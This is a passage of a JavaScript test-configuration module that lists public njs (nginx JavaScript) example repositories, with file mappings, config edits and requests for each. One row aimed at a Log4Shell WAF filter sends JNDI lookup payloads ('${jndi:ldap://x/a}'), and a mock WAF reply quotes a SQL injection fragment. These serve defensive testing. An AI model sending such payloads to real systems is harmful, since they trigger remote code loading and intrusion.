// Published programs for njs, and what each of them is asked. A row names a repository, and which of its files go where; a
// configuration that is a part of a file is included by one of the row's own. `edits` change what cannot run anywhere else than with
// the author: names of files of certificates, placeholders of templates, and directives of NGINX Plus.
import { token } from './requests.mjs';

const examples = (name, row = {}) => ({
  name: `njs-examples ${name}`,
  repository: 'nginx/njs-examples',
  files: { '/etc/nginx/nginx.conf': `conf/${name}.conf`, '/etc/nginx/njs': 'njs' },
  ...row,
});
const usecase = (name, row = {}) => ({
  name: `nginx-njs-usecases ${name}`,
  repository: 'zongzw-nginx/nginx-njs-usecases',
  files: {
    '/etc/nginx/nginx.conf': `${name}/nginx.conf`,
    '/etc/nginx': name,
    '/etc/nginx/scripts': name,
    '/root/nginx/conf/data': `${name}/data`,
    '/root/data': `${name}/data`,
  },
  ...row,
});
const http = (conf, more = '') => `http {\n  include /etc/nginx/mime.types;\n  ${more}\n  include ${conf};\n}\n`;
const conf = '/etc/nginx/nginx.conf';
const withoutData = (name) => ({ '/etc/nginx/nginx.conf': `${name}/nginx.conf`, '/etc/nginx': name, '/etc/nginx/scripts': name });
const get = (path, headers = {}, more = {}) => ({ path, headers, ...more });
const post = (path, type, body, headers = {}) => ({ method: 'POST', path, headers: { 'Content-Type': type, ...headers }, body });
/** njs gives each session its own variables of modules. */
const FRESH = (block) => [[conf, `^${block} \\{`, `${block} { js_context_reuse 0;`]];
const date = '\\w{3}, \\d\\d \\w{3} \\d{4} [\\d:]{8} GMT';
const dnsQuery = (name) =>
  `\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00${name
    .split('.')
    .map((label) => String.fromCharCode(label.length) + label)
    .join('')}\0\0\x01\0\x01`;
const framed = (message) => `\0${String.fromCharCode(message.length)}${message}`;

export const rows = [
  // nginx/njs-examples
  examples('http/hello'),
  examples('http/decode_uri', { requests: ['/dec_foo?foo=%D0%BF%D1%80%D0%B8', '/foo?foo=%D0%BF%D1%80%D0%B8', '/dec_foo?foo=%zz'] }),
  examples('http/complex_redirects', {
    requests: [
      { path: '/CCC?a=1' },
      { ...post('/add', 'application/json', '{"from":"/CCC","to":"/AA"}'), port: 8090 },
      { ...get('/map'), port: 8090 },
      { path: '/CCC?a=1' },
      { ...post('/remove', 'application/json', '{"from":"/CCC"}'), port: 8090 },
      { path: '/CCC?a=1' },
    ],
  }),
  examples('http/join_subrequests'),
  examples('http/subrequests_chaining', {
    requests: ['/start', get('/start', { Authorization: 'Bearer secret' }), get('/start', { Authorization: 'x' })],
  }),
  examples('http/response/to_lower_case'),
  examples('http/response/modify_set_cookie', { requests: ['/modify_cookies?len=1', '/modify_cookies?len=3', '/modify_cookies?len=zz'] }),
  examples('http/authorization/auth_request', {
    env: { SECRET_KEY: 'foo' },
    requests: [
      get('/secure/B', { Signature: 'xx' }),
      get('/secure/B', { Signature: 'fk9WRmw7Rl+NwVAA759+H2UkwNE=' }),
      get('/secure/B', { Signature: 'KBO3ZYBwpJwHLpGcIkdkOqBLzBw=' }),
    ],
  }),
  examples('http/authorization/request_body', {
    env: { SECRET_KEY: 'foo' },
    requests: [post('/secure/B', 'text/plain', 'example', { Signature: 'fk9WRmw7Rl+NwVAA759+H2UkwNE=' })],
  }),
  examples('http/authorization/secure_link_hash', {
    env: { SECRET_KEY: 'foo' },
    requests: [get('/secure/r', { Cookie: 'foo=8Rj3LqdXjMqkrEKlZlIqLA' })],
  }),
  examples('http/authorization/gen_hs_jwt', { env: { JWT_GEN_KEY: 'foo' }, mask: ['eyJ[\\w.-]+'] }),
  examples('http/authorization/jwt', {
    requests: [get('/jwt', { Authorization: `Bearer ${token}` }), get('/jwt', { Authorization: 'Bearer a.b' })],
  }),
  examples('http/certs/subject_alternative', {
    auto: false,
    edits: [
      [conf, 'ssl_password_file [^;]*;', ''],
      [conf, 'ca/intermediate/(certs/www|private/www)[^;]*;', 'made.pem;'],
      [conf, 'ca/intermediate/certs/ca-chain.cert.pem', 'made.pem'],
    ],
    setup: [
      'openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /etc/nginx/njs/http/certs/k.pem -out /etc/nginx/njs/http/certs/c.pem -days 99 -subj /CN=www.example.com -addext subjectAltName=DNS:one.example.com,IP:10.0.0.1,email:a@b.c; cat /etc/nginx/njs/http/certs/?.pem > /etc/nginx/njs/http/certs/made.pem; chmod a+r /etc/nginx/njs/http/certs/made.pem; cp /etc/nginx/njs/http/certs/made.pem /tmp/made.pem; cp /tmp/made.pem /mnt/made.pem',
    ],
    requests: [
      { path: '/', port: 443, host: 'www.example.com', tls: { pemFile: '/mnt/root/mnt/made.pem' } },
      { path: '/', port: 443, host: 'www.example.com', tls: {} },
    ],
  }),
  examples('http/certs/dynamic', {
    edits: [[conf, 'ssl_password_file [^;]*;', '']],
    setup: [
      'openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /tmp/www.example.com.key.pem -out /tmp/www.example.com.cert.pem -days 99 -subj /CN=www.example.com; chmod a+r /tmp/*.pem',
    ],
    requests: [
      { path: '/', port: 443, host: 'www.example.com', tls: {} },
      { path: '/kv', port: 80 },
      { path: '/clear', port: 80 },
      { path: '/', port: 443, host: 'none.example.com', tls: {} },
    ],
    mask: ['"ssl_session_id":"[^"]*', '-----BEGIN[^-]*-----[^-]*-----END[^-]*-----', 'MII[\\w+/=\\\\]+'],
  }),
  examples('http/certs/fetch_https', {
    resolvers: ['1.1.1.1'],
    edits: [[conf, 'ISRG_Root_X1.pem', 'made.pem']],
    setup: [
      'openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /tmp/k.pem -out /etc/nginx/njs/http/certs/made.pem -days 99 -subj /CN=x; chmod a+r /etc/nginx/njs/http/certs/made.pem',
    ],
    mask: ['".*"'],
  }),
  examples('http/async_var/auth_request', { requests: ['/secure/abc?backend=b', '/secure/abc?backend=a'] }),
  examples('http/async_var/js_header_filter', { requests: ['/secure/abc?backend=b', '/secure/abc'] }),
  examples('http/rate-limit/simple', {
    requests: Array.from({ length: 12 }, () => ({ path: '/', host: 'www.example.com' })),
    mask: ['Retry-After.*'],
  }),
  examples('http/logging/num_requests', {
    edits: [
      [conf, '^\\s*keyval\\w* [^;]*;', ''],
      [conf, 'http\\.num_requests', 'main.num_requests'],
      [conf, 'http \\{', 'http { js_var $foo;'],
    ],
    logs: ['/etc/nginx/logs/access.log'],
    mask: ['\\[[^\\]]*\\]'],
  }),
  examples('misc/aes_gcm', {
    requests: [
      '/encrypt?key=mySecret&iv=000000000000000000000001&text=hello',
      '/decrypt?key=mySecret',
      post('/decrypt?key=mySecret', 'text/plain', 'zz'),
    ],
    mask: ['[0-9a-f]{40,}', '[A-Za-z0-9+/=]{16,}', 'decryption failed with .*'],
  }),
  examples('misc/file_io', {
    requests: [
      '/read',
      post('/push', 'application/json', '{"msg":"a"}'),
      post('/push', 'application/json', '{"msg":"ü"}'),
      '/read',
      '/flush',
      '/read',
    ],
  }),
  examples('stream/inject_header', {
    auto: false,
    requests: [{ raw: 'GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n' }, { raw: 'GET /x HTTP/1.0\r\n\r\n' }],
  }),
  examples('stream/auth_request', {
    auto: false,
    requests: [{ raw: 'MAGiK' }, { raw: 'MAGICfoo' }, { raw: 'MAGiKfoobar' }, { raw: 'MAGiKbaz' }, { raw: 'MA' }, { raw: 'xxxxxxxx' }],
  }),
  examples('stream/detect_http', {
    edits: FRESH('stream'),
    auto: false,
    requests: [{ raw: 'GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n' }, { raw: 'ABC\r\n' }, { raw: 'GET / FTP/1.1\r\n\r\n' }],
  }),

  // zongzw-nginx/nginx-njs-usecases
  usecase('0.download-and-install', { files: withoutData('0.download-and-install') }),
  usecase('auditting_defacement', {
    files: withoutData('auditting_defacement'),
    include: { file: '/etc/nginx/scripts/audit.js' },
    auto: false,
    requests: ['/', '/x'],
  }),
  usecase('batching_request', {
    requests: ['/?names=a', '/batch', post('/', 'application/json', '["/subjects/1"]'), '/subjects/'],
    mask: [date, '"mtime":"[^"]*"'],
  }),
  usecase('bigip-viewer', { files: withoutData('bigip-viewer'), hosts: ['bigip'], requests: ['/grep?host=bigip:8080', '/debug'] }),
  usecase('data_masking', {
    files: withoutData('data_masking'),
    include: { file: '/etc/nginx/scripts/masking.js' },
    requests: ['/?email=a@b.c&zip=90210'],
    logs: ['/var/log/nginx/access_masked.log'],
    mask: ['\\[[^\\]]*\\]'],
  }),
  usecase('fast_response', { files: withoutData('fast_response') }),
  usecase('file_opera', {
    include: { file: '/etc/nginx/scripts/fileops.js' },
    requests: ['/?name=a', '/books', '/subjects/'],
    mask: [date, '"mtime":"[^"]*"'],
  }),
  usecase('ftp_1pasv_alg', {
    hosts: ['myftp_1pasv'],
    files: withoutData('ftp_1pasv_alg'),
    include: { file: '/etc/nginx/scripts/ftp.js' },
    auto: false,
    requests: [
      { raw: 'USER a\r\n', port: 21 },
      { raw: 'PASV\r\n', port: 21 },
    ],
  }),
  usecase('json_logging', {
    files: withoutData('json_logging'),
    include: { file: '/etc/nginx/scripts/logging.js' },
    logs: ['/var/log/nginx/access_json.log'],
    mask: [
      "'time_local':'[^']*",
      date,
      '"time[^,]*',
      '"[\\w-]*(?:msec|time|port|connection|pid|id)[\\w-]*":"?[^,"}]*',
      '127.0.0.1:\\d+',
      '(?:nginx|sluice)[\\w/.:-]*',
    ],
  }),
  usecase('nat64', {
    files: withoutData('nat64'),
    auto: false,
    requests: ['/'],
    resolvers: ['127.0.0.11'],
    edits: [
      [conf, 'listen \\[::\\]:80', 'listen 80; listen [::]:80'],
      [conf, 'status_zone [^;]*;', ''],
    ],
  }),
  usecase('payload_proxy', {
    files: withoutData('payload_proxy'),
    include: { file: '/etc/nginx/scripts/payload.js' },
    requests: [post('/', 'application/json', '{"id":1}'), post('/', 'application/json', '{"id":2}'), '/id1', '/id2'],
  }),
  usecase('risk_control', {
    files: withoutData('risk_control'),
    edits: [[conf, 'localhost:8080', 'behind:8080']],
    hosts: ['behind'],
    requests: [post('/x', 'application/json', '{"amount":1}')],
  }),
  usecase('validate_request', {
    files: withoutData('validate_request'),
    include: { file: '/etc/nginx/scripts/validate.js' },
    requests: [post('/', 'text/xml', '<a><b>1</b></a>'), post('/', 'text/xml', '<a'), post('/', 'application/json', '{')],
  }),
  usecase('virtual_patching', {
    files: withoutData('virtual_patching'),
    include: { file: '/etc/nginx/scripts/patching.js' },
    auto: false,
    setup: [
      'mkdir -p /etc/nginx/kps; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /etc/nginx/kps/server.key -out /etc/nginx/kps/server.crt -days 9 -subj /CN=a',
    ],
    requests: [
      { raw: 'get / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n' },
      { raw: 'GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n' },
      { raw: 'get / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n', port: 443, tls: {} },
    ],
  }),
  {
    name: 'nginx-njs-usecases os-browserify',
    repository: 'zongzw-nginx/nginx-njs-usecases',
    files: {
      '/etc/nginx/nginx.conf': 'using-npm-packages/os-browserify-test/7.nginx.conf',
      '/etc/nginx/3.bundle.js': 'using-npm-packages/os-browserify-test/3.bundle.js',
      '/etc/nginx/4.njs-code.js': 'using-npm-packages/os-browserify-test/4.njs-code.js',
    },
    setup: [
      'cat /etc/nginx/3.bundle.js /etc/nginx/4.njs-code.js > /etc/nginx/njs_bundle.js; sed -i "s/^/globalThis.global = globalThis;/;2,$s/^globalThis.global = globalThis;//" /etc/nginx/njs_bundle.js',
    ],
  },

  // Small servers
  {
    name: 'nginx-js hello (fajarnugraha37)',
    repository: 'fajarnugraha37/nginx-njs',
    files: { '/etc/nginx/nginx.conf': 'configs/nginx.conf', '/etc/nginx/njs': 'njs', '/etc/nginx/html': 'configs' },
    edits: [
      [conf, '/etc/nginx/conf.d/\\*.conf', '/etc/nginx/none*.conf'],
      [conf, 'listen +443 ssl;', 'listen 8443;'],
      [conf, 'ssl_\\w+ [^;]*;', ''],
      [conf, 'http2 +on;', ''],
    ],
    env: { HMAC_SECRET: 's', FF_PERCENT: '30' },
  },
  {
    name: 'edge use cases (fajarnugraha37)',
    repository: 'fajarnugraha37/nginx-njs',
    files: { '/etc/nginx/app.conf': 'configs/conf.d/app.conf', '/etc/nginx/njs': 'njs' },
    texts: {
      [conf]: `env HMAC_SECRET; env FF_PERCENT;\n${http('app.conf', 'js_path njs/; js_import edge from edge.js; js_import f from filters.js; js_set $hmac edge.sign_req; js_set $bucket edge.bucket_by_cookie; js_set $ff edge.ff_snapshot;')}`,
    },
    more: ['/etc/nginx/app.conf'],
    env: { HMAC_SECRET: 's', FF_PERCENT: '30' },
    mask: ['\\d{10}\\.\\d{3}', 'x-sign: .*'],
  },
  {
    name: 'njs-test (D10f)',
    repository: 'D10f/njs-test',
    files: { '/etc/nginx/nginx.conf': 'nginx/nginx.conf', '/etc/nginx/njs': 'nginx/njs', '/usr/share/nginx/html/index.html': 'index.html' },
    env: { VITE_NAME: 'x' },
    requests: ['/index.html', '/none.html'],
  },
  {
    name: 'auth (alessandro-candon)',
    repository: 'alessandro-candon/nginx-njs',
    files: { '/etc/nginx/nginx.conf': 'njs/nginx.conf', '/etc/nginx/njs/auth.js': 'njs/auth.js' },
    resolvers: ['127.0.0.11', '8.8.8.8', '8.8.4.4'],
    hosts: ['auth', 'node', 'api'],
  },
  {
    name: 'Gorilla WAF',
    repository: 'alon-nagar/Gorilla-WAF-Project-2023',
    files: { '/etc/nginx/default.conf': 'Gorilla-ReverseProxy-NGINX/default.conf', '/waf': 'Gorilla-ReverseProxy-NGINX' },
    texts: { [conf]: http('default.conf') },
    more: ['/etc/nginx/default.conf'],
    hosts: ['website', 'flask-waf'],
    backends: {
      ports: [3333],
      answers: {
        '3333/attack': { body: 'BLOCK {"attack_name":"SQL","blocked_text":"\' OR 1","count":2}' },
        '3333/banned': { body: 'BLACKLIST' },
        3333: { body: 'ALLOW' },
      },
    },
    requests: ['/attack?q=1', '/banned', '/page?a=b%20c'],
  },
  {
    name: 'redirect (LeandroJan)',
    repository: 'LeandroJan/nginx-njs',
    files: { '/etc/nginx/nginx.conf': 'src/nginx.conf', '/etc/nginx/app': 'src' },
    edits: [[conf, 'include [^;]*;', '']],
    hosts: ['minio-service'],
    backends: { ports: [9000] },
    port: 8080,
    requests: ['/', '/a.html', '/file?x=1'],
  },
  {
    name: 'njs-issue-555',
    repository: 'tmm360/njs-issue-555',
    files: { '/etc/nginx/default.conf': 'nginx/templates/default.conf', '/etc/nginx/main.js': 'nginx/main.js' },
    texts: { [conf]: http('default.conf') },
    more: ['/etc/nginx/default.conf'],
  },
  {
    name: 'hr gateway (au12321ua)',
    repository: 'au12321ua/STSS-gateway',
    files: { '/etc/nginx/auth.js': 'njs/auth.js' },
    texts: {
      [conf]:
        'http { js_import auth from auth.js; server { listen 80; location = /api/v1/health { js_content auth.healthCheck; } location = /internal/health/auth { return 200 ok; } location = /internal/health/info { return 503; } } }',
    },
  },
  {
    name: 'Clubs Council',
    repository: 'Clubs-Council-IIITH/services',
    files: { '/etc/nginx/app.conf': 'nginx/app.conf', '/etc/nginx/scripts': 'nginx/scripts' },
    texts: { [conf]: http('app.conf') },
    more: ['/etc/nginx/app.conf'],
    hosts: ['gateway', 'auth', 'files', 'graphql', 'web', 'interface'],
    requests: ['/static/a.png', '/gallery'],
    edits: [['/etc/nginx/app.conf', 'resolver [^;]*;', '']],
  },
  {
    name: 'I-Drive',
    repository: 'pam-param-pam/I-Drive',
    files: { '/etc/nginx/auth.js': 'nginx/auth.js' },
    texts: {
      [conf]:
        'env SIGNING_SECRET; http { js_import auth from auth.js; server { listen 80; location / { auth_request /validate_signature; return 200 in; } location ~ ^/api/files/[^/]+/thumbnail/[^/]+/stream$ { auth_request /validate_signature; proxy_pass http://behind:8080; } location = /validate_signature { internal; js_content auth.validate; } location = /direct { js_content auth.validate; } } }',
    },
    hosts: ['behind'],
    env: { SIGNING_SECRET: 'secret' },
    requests: ['/api/files/abc:1:x/thumbnail/y/stream', '/api/files/a/thumbnail/y/stream?signature=x&expires=99999999999'],
  },
  {
    name: 'frisk frontend',
    repository: 'kartverket/frisk-frontend',
    files: { '/etc/nginx/nginx.conf': 'nginx/nginx.conf', '/etc/nginx/main.js': 'nginx/main.js' },
    env: { VITE_CLIENT_ID: 'id', VITE_AUTHORITY: 'a"b' },
  },
  {
    name: 'njs for fun: QR code',
    repository: '4141done/talks-njs_for_fun',
    files: { '/etc/nginx': 'qr_code' },
    requests: [
      { path: '/?text=hello', port: 4003 },
      { path: '/?data=hello', port: 4003 },
    ],
  },
  {
    name: 'njs for fun: child care',
    repository: '4141done/talks-njs_for_fun',
    files: { '/etc/nginx': 'real_childcare_site' },
    more: ['/etc/nginx/mock_server/doggy_daycare.conf'],
    requests: [
      { path: '/listings/1', port: 4002 },
      { path: '/listings/2', port: 4001 },
      { path: '/listings/99', port: 4002 },
    ],
  },
  {
    name: 'njs for fun: poetry',
    repository: '4141done/talks-njs_for_fun',
    files: { '/etc/nginx': 'precious_poetry' },
    resolvers: ['1.1.1.1'],
    requests: [{ path: '/', port: 4000 }],
  },
  {
    name: 'docker-nginx (CompileNix)',
    repository: 'CompileNix/docker-nginx',
    files: { '/etc/nginx/njs': 'njs', '/etc/nginx/localhost.conf': 'njs/localhost.conf', '/etc/nginx/njs.conf': 'njs/njs.conf' },
    texts: {
      [conf]:
        'http { include njs.conf; server { listen 80; location = / { return 200 a; } location = /njs/date { js_content http.date; } location = /njs/hello { js_content http.hello; } location = /njs/version { js_content http.version; } } }',
    },
    mask: ['\\w{3} \\w{3} \\d\\d \\d{4} [^\\n<"]*', '\\d{4}-\\d\\d-\\d\\dT[\\d:.]*Z?'],
  },
  {
    name: 'browser fingerprint links (bahybintang)',
    repository: 'bahybintang/nginx-njs-learn',
    files: { '/etc/nginx/main.conf': 'conf/main.conf', '/etc/nginx/njs': 'njs' },
    texts: { [conf]: http('main.conf') },
    more: ['/etc/nginx/main.conf'],
    hosts: ['api', 'backend'],
    requests: ['/bf-abcdefgh', '/x'],
  },
  {
    name: 'oidc proxy (kaz)',
    repository: 'kaz/nginx-njs-oidc-proxy',
    files: { '/etc/nginx': 'nginx' },
    include: { file: '/etc/nginx/js/handler.js' },
    hosts: ['backend', 'web', 'accounts.google.com', 'provider'],
    edits: [
      [conf, 'upstream backend \\{[^}]*\\}', 'upstream backend { server web:8080; }'],
      [conf, 'https://\\$oidc_provider_host', 'http://web:8080'],
    ],
    requests: ['/oauth2/callback?code=a&state=b', get('/', { Cookie: `token=${token}` })],
    mask: ['state=[^&;]*', 'nonce=[^&;]*'],
  },
  {
    name: 'oidc proxy (MXSH-Dev)',
    repository: 'MXSH-Dev/nginx-njs-oidc-proxy',
    files: { '/etc/nginx': 'nginx' },
    include: { file: '/etc/nginx/js/handler.js' },
    hosts: ['backend', 'web'],
    edits: [
      [conf, 'upstream backend \\{[^}]*\\}', 'upstream backend { server web:8080; }'],
      [conf, 'https://\\$oidc_provider_host', 'http://web:8080'],
    ],
    requests: ['/oauth2/callback?code=a&state=b'],
    mask: ['state=[^&;]*', 'nonce=[^&;]*'],
  },
  {
    name: 'oidc client (opatey)',
    repository: 'opatey/nginx-njs-oidc-client',
    files: { '/etc/nginx/nginx.conf': 'nginx.conf', '/etc/nginx': '.', '/etc/nginx/njs-modules': 'out' },
    hosts: ['login.microsoftonline.com'],
    requests: ['/?code=abc&state=x', get('/', { Cookie: `id_token=${token}` })],
    mask: ['state=[^&;]*', 'nonce=[^&;]*'],
  },
  {
    name: 'njs-demo (freemember007)',
    repository: 'freemember007/njs-demo',
    files: { '/etc/nginx': '.' },
    texts: { '/etc/nginx/globals/mime.types': 'types { text/html html; }' },
    include: { file: '/etc/nginx/js/hi.js' },
    hosts: ['api2.diandianyy.com'],
    edits: [[conf, 'limit_req zone=\\w+;', '']],
    requests: [{ ...post('/hi', 'text/plain', 'abc'), port: 8008 }],
  },
  {
    name: 'http service call (mylesj)',
    repository: 'mylesj/nginx-njs-http-service-call',
    files: { '/etc/nginx': 'nginx/etc/nginx', '/etc/nginx/default.conf': 'nginx/etc/nginx/templates/default.conf.template' },
    texts: { [conf]: http('default.conf', 'js_import njs/http.js;') },
    edits: [['/etc/nginx/default.conf', '\\$\\{NODE_SERVICE\\}:\\$\\{NODE_SERVICE_PORT\\}', 'node:3000']],
    hosts: ['node'],
    more: ['/etc/nginx/default.conf'],
    requests: ['/test?a=b'],
  },
  {
    name: 'ReelForge auth',
    repository: 'vecchiotom/ReelForge',
    files: { '/etc/nginx/nginx.conf': 'nginx/nginx.conf', '/etc/nginx/auth.js': 'nginx/auth.js' },
    requests: [get('/api/v1/auth/me', { Cookie: 'rf_token=abc; access_token=x' }), post('/api/auth/logout', 'application/json', '{}')],
  },
  {
    name: 'env vars (pawpartyka)',
    repository: 'pawpartyka/ng-env-vars',
    files: { '/etc/nginx/nginx.conf': 'nginx/nginx.conf', '/etc/nginx/http.js': 'nginx/http.js' },
    env: { API_URL: 'http://x' },
  },
  {
    name: 'bot log (vinhjaxt)',
    repository: 'vinhjaxt/dfcd-2024',
    files: { '/etc/nginx/njs': 'njs', '/etc/nginx/main.js': 'njs/main.js' },
    texts: {
      [conf]:
        'http { js_path /etc/nginx/njs/; js_import main from ./main.js; resolver 127.0.0.11 ipv6=off; server { listen 80; location = /mathsays { js_body_filter main.bot_log_request buffer_type=buffer; proxy_pass http://mathsays:8080; } location /log-api/ { js_body_filter main.bot_log_request buffer_type=buffer; proxy_pass http://php/; } } }',
    },
    hosts: ['mathsays', 'php', 'postgrest'],
  },
  {
    name: 'nginx-njs-log',
    repository: 'dmitry-j-mikhin/nginx-njs-log',
    files: { '/etc/nginx/default.conf': 'scripts/default_addon.conf', '/etc/nginx/logging.js': 'scripts/logging.js' },
    texts: { [conf]: http('default.conf') },
    edits: [['/etc/nginx/default.conf', '127.0.0.1:8080', 'behind:8080']],
    hosts: ['behind'],
    more: ['/etc/nginx/default.conf'],
    logs: ['/var/log/nginx/access.log'],
    mask: [
      '"msec": [\\d.]*',
      '"time_iso8601": "[^"]*"',
      '"request_time": [\\d.]*',
      'bytes_sent": \\d+',
      '"Date\\W+[^"]*"',
      'SERVER|(?:nginx|sluice)/[\\d.]+',
      date,
    ],
  },
  {
    name: 'server-side rendering (kraftdorian)',
    repository: 'kraftdorian/nginx-njs-ssr-starter',
    files: { '/etc/nginx/nginx.conf': 'examples/basic/nginx.conf', '/etc/nginx/njs': '.' },
  },
  {
    name: 'hello world (zoltan-nz)',
    repository: 'zoltan-nz/nginx-njs-playground',
    files: { '/etc/nginx': 'nginx-examples/hello-world/nginx' },
  },
  {
    name: 'hello world (shiv3)',
    repository: 'shiv3/nginx-njs',
    files: { '/etc/nginx': 'helloworld' },
    include: { file: '/etc/nginx/src/hello_world.js' },
    port: 80,
  },
  {
    name: 'learning (rongfengliang)',
    repository: 'rongfengliang/nginx-njs-learning',
    files: { '/etc/nginx/nginx.conf': 'nginx.conf', '/opt/js': 'js' },
    resolvers: ['114.114.114.114'],
  },
  {
    name: 'dynamic upstreams (AliML111)',
    repository: 'AliML111/nginx-dynamic',
    mask: ['"request_id":"[0-9a-f]*'],
    files: { '/etc/nginx/nginx.conf': 'nginx.conf', '/etc/nginx/njs': 'njs' },
    resolvers: ['1.1.1.1'],
    requests: [
      '/api/',
      post('/api/', 'application/json', '{"name":"proxy","servers":[{"server":"10.9.0.2:8080","weight":1,"down":false}]}'),
      '/api/proxy',
      '/',
      { method: 'PUT', path: '/api/', headers: {}, body: '{"name":"proxy","servers":[{"server":"10.9.0.2:3000","weight":2}]}' },
      '/',
      { method: 'DELETE', path: '/api/?name=proxy' },
    ],
  },
  {
    name: 'media (Robert-Rino)',
    repository: 'Robert-Rino/tool-kit',
    files: { '/etc/nginx/nginx.conf': 'nginx/njs/nginx.conf', '/etc/nginx/http.js': 'nginx/njs/http.js' },
    requests: [
      { path: '/abc/hello', port: 8000 },
      { path: '/hello', port: 8000 },
    ],
  },
  {
    name: 'demo (joelparkerhenderson)',
    repository: 'joelparkerhenderson/demo-nginx-njs',
    files: { '/etc/nginx/demo_nginx_njs.js': 'demo_nginx_njs.js', '/etc/nginx/server.conf': 'server.conf' },
    texts: { [conf]: http('server.conf', 'js_import demo_nginx_njs.js;') },
    edits: [
      ['/etc/nginx/server.conf', '…', 'listen 80;'],
      ['/etc/nginx/server.conf', 'listen 80;\\n\\}', '}'],
    ],
    more: ['/etc/nginx/server.conf'],
    requests: ['/demo-variables?x=1'],
    mask: ['"?\\d{9,}[\\d.]*'],
  },
  {
    name: 'benchmark (lombax85)',
    repository: 'lombax85/nginx-njs-benchmark',
    files: { '/etc/nginx/nginx.conf': 'config/nginx.conf', '/usr/share/nginx/html': '.' },
    hosts: ['lombax.it'],
    edits: [[conf, 'https://lombax', 'http://lombax']],
    include: { file: '/usr/share/nginx/html/module.js' },
  },
  {
    name: 'log4shell filter (tippexs)',
    repository: 'tippexs/nginx-njs-waf-cve2021-44228',
    files: { '/etc/nginx/default.conf': 'default.conf', '/etc/nginx/cve202144228/cve.js': 'cve.js' },
    texts: { [conf]: http('default.conf') },
    more: ['/etc/nginx/default.conf'],
    edits: [['/etc/nginx/default.conf', 'http://127.0.0.1:8099', 'http://10.9.0.2:8080']],
    requests: [
      { path: '/?x=${jndi:ldap://x/a}', port: 8090 },
      { path: '/', port: 8090, headers: { 'User-Agent': '${jndi:ldap://x/a}' } },
      { ...post('/test/', 'text/plain', 'a=${jndi:ldap://x/a}'), port: 8090 },
      { ...post('/test/', 'text/plain', 'a=b'), port: 8090 },
    ],
  },
  {
    name: 'jwt extract (PaulAik)',
    repository: 'PaulAik/nginx-jwt-extract',
    files: { '/etc/nginx/nginx.conf': 'nginx/nginx.conf', '/etc/nginx/conf.d': 'nginx' },
    hosts: ['nodeserver'],
    backends: { ports: [5000] },
    logs: ['/var/log/nginx/access.log'],
    mask: ['\\[[^\\]]*\\]'],
  },
  {
    name: 'redirect (shanyuhai123)',
    repository: 'shanyuhai123/njs-redirect',
    files: { '/etc/nginx/nginx.conf': 'template/nginx.template', '/etc/nginx/njs': 'njs' },
    edits: [[conf, '\\$\\{(?:local|remote)_location_conf\\}', 'proxy_pass http://apis:8080;']],
    hosts: ['apis'],
  },
  {
    name: 'subrequests (sunnymean)',
    repository: 'sunnymean/nginx-njs',
    files: { '/etc/nginx/nginx.conf': 'conf/join_subrequests.conf', '/etc/nginx/njs': 'njs' },
  },
  {
    name: 'auth request (sunnymean)',
    repository: 'sunnymean/nginx-njs',
    files: { '/etc/nginx/nginx.conf': 'conf/auth_request.conf', '/etc/nginx/njs': 'njs' },
  },
  {
    name: 'single page files (nbaxp)',
    repository: 'nbaxp/vue-browser-sfc',
    files: { '/etc/nginx/http.js': 'nginx/http.js', '/usr/share/nginx/html': 'examples' },
    texts: {
      [conf]: 'http { js_import /etc/nginx/http.js; server { listen 80; charset utf-8; location / { js_content http.process; } } }',
    },
    requests: ['/', '/esm/', '/esm/index.html', '/esm/none.html', '/a/b/c'],
  },
  {
    name: 'tunnels (ishnmu)',
    repository: 'ishnmu/nginx_to_squid',
    files: { '/etc/nginx/stream_conf.d': 'stream_conf.d' },
    texts: { [conf]: 'stream { include stream_conf.d/proxy.conf; }' },
    edits: [
      ['/etc/nginx/stream_conf.d/proxy.conf', 'unix:/var/run/capital_first.sock', '8081'],
      ['/etc/nginx/stream_conf.d/proxy.conf', 'unix:/var/run/maps_google.sock', '8082'],
      ['/etc/nginx/stream_conf.d/proxy.conf', 'squid:3128', 'squid:3000'],
    ],
    hosts: ['squid'],
    auto: false,
    requests: [{ raw: 'GET / HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n', port: 8081 }],
  },
  {
    name: 'token hash (openbraininstitute)',
    repository: 'openbraininstitute/sonata-cell-position',
    files: { '/etc/nginx/http.js': 'nginx/http.js' },
    texts: {
      [conf]:
        'http { js_import http.js; js_set $auth_token_hash http.auth_token_hash; server { listen 80; location / { return 200 "$auth_token_hash"; } } }',
    },
  },
  {
    name: 'counters (reinvented-stuff)',
    repository: 'reinvented-stuff/nginx-njs-prometheus',
    files: { '/etc/nginx/p.js': 'nginx_njs_prometheus.js' },
    texts: {
      [conf]:
        'http { js_import p from p.js; server { listen 80; location /metrics { js_content p.metrics; } location /api { return 200 "{}"; } location /status { stub_status; } } }',
    },
    mask: ['\\d+'],
  },

  // nginx's own larger programs
  {
    name: 'nginx-dns: DNS over HTTPS',
    repository: 'TuxInvader/nginx-dns',
    files: { '/etc/nginx/njs.d': 'njs.d' },
    texts: {
      [conf]:
        'http { upstream dohloop { server 127.0.0.1:8053; keepalive 4; } server { listen 80; location /dns-query { proxy_http_version 1.1; proxy_set_header Connection ""; proxy_pass http://dohloop; } } } stream { js_context_reuse 0; js_import /etc/nginx/njs.d/dns/dns.js; js_set $dns_qname dns.get_qname; js_set $dns_response dns.get_response; map $dns_response $pool { blocked 127.0.0.1:9953; blackhole 127.0.0.1:9853; default 127.0.0.1:9953; } js_var $blocked_domains "blocked.org"; js_var $blackhole_domains "hole.org"; js_var $scrub_action ""; server { listen 553; js_preread dns.preread_dns_request; proxy_pass $pool; } server { listen 127.0.0.1:8053; js_filter dns.filter_doh_request; proxy_pass 127.0.0.1:9953; } server { listen 127.0.0.1:9953; js_preread dns.preread_dns_request; return $dns_qname; } server { listen 127.0.0.1:9853; return hole; } }',
    },
    auto: false,
    requests: [
      { raw: framed(dnsQuery('www.blocked.org')), port: 553 },
